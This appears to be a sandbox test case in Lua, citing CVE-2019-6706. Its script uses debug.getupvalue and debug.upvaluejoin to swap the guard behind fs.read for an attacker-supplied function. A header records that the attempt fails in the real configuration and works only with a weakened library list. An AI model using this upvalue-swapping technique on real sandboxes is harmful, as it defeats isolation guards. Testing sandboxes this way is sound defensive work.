-- title: swap the variable behind a guard for one of one's own
-- reference: CVE-2019-6706 (a use after free in debug.upvaluejoin), for what it is there
-- real: error: attempt to index a nil value (global 'debug')
-- weakened: library list
-- proof: value: "mine"

local function mine() return true, "mine" end
local hold = function() return mine end
for index = 1, 20 do
  local _, value = debug.getupvalue(fs.read, index)
  if type(value) == "userdata" then debug.upvaluejoin(fs.read, index, hold, 1) end
end
return fs.read("/x")
